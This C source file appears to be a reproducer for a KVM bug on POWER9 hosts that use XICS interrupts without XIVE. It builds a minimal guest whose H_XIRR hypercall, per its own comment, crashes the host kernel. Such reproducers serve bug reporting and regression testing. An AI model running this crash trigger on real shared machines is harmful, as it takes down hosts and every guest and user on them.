/* SPDX-License-Identifier: BSD-2-Clause */
/* See power9-xics-without-xive.md. THIS CRASHES A HOST. Built by: gcc -O2 */
#include <errno.h>
#include <fcntl.h>
#include <linux/kvm.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <unistd.h>

#define PAGE 65536UL

static int must(int rc, const char *what)
{
	if (rc < 0) {
		printf("%s: %s\n", what, strerror(errno));
		exit(2);
	}
	return rc;
}

int main(void)
{
	static const uint32_t code[] = { 0x44000022 /* sc 1 */, 0x38600058 /* li 3,0x58 */,
		                         0x44000022 /* sc 1 */ };
	struct kvm_ppc_mmuv3_cfg mmu = { KVM_PPC_MMUV3_RADIX, 1ULL << 63 };
	struct kvm_userspace_memory_region slot = { .memory_size = PAGE };
	struct kvm_create_device device = { .type = KVM_DEV_TYPE_XICS };
	struct kvm_enable_cap papr = { .cap = KVM_CAP_PPC_PAPR }, join = { .cap = KVM_CAP_IRQ_XICS };
	struct kvm_regs regs = { .msr = 0x8000000000001001ULL };
	int kvm = must(open("/dev/kvm", O_RDWR), "/dev/kvm"), vm, vcpu;
	void *ram;

	vm = must(ioctl(kvm, KVM_CREATE_VM, 1), "KVM_CREATE_VM");
	ram = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	memcpy(ram, code, sizeof(code));
	slot.userspace_addr = (uintptr_t)ram;
	must(ioctl(vm, KVM_SET_USER_MEMORY_REGION, &slot), "memory");
	must(ioctl(vm, KVM_PPC_CONFIGURE_V3_MMU, &mmu), "KVM_PPC_CONFIGURE_V3_MMU");
	must(ioctl(vm, KVM_CREATE_DEVICE, &device), "XICS");
	vcpu = must(ioctl(vm, KVM_CREATE_VCPU, 0), "KVM_CREATE_VCPU");
	must(ioctl(vcpu, KVM_ENABLE_CAP, &papr), "PAPR");
	join.args[0] = device.fd;
	must(ioctl(vcpu, KVM_ENABLE_CAP, &join), "IRQ_XICS");
	regs.gpr[3] = 0x74; /* H_XIRR */
	must(ioctl(vcpu, KVM_SET_REGS, &regs), "KVM_SET_REGS");
	printf("KVM_CAP_PPC_IRQ_XIVE is %d; now H_XIRR\n",
	       ioctl(vm, KVM_CHECK_EXTENSION, KVM_CAP_PPC_IRQ_XIVE));
	fflush(stdout);
	must(ioctl(vcpu, KVM_RUN, 0), "KVM_RUN"); /* where the bug is, the host ends here */
	must(ioctl(vcpu, KVM_GET_REGS, &regs), "KVM_GET_REGS");
	printf("right: the host is still there\n");
	return 0;
}
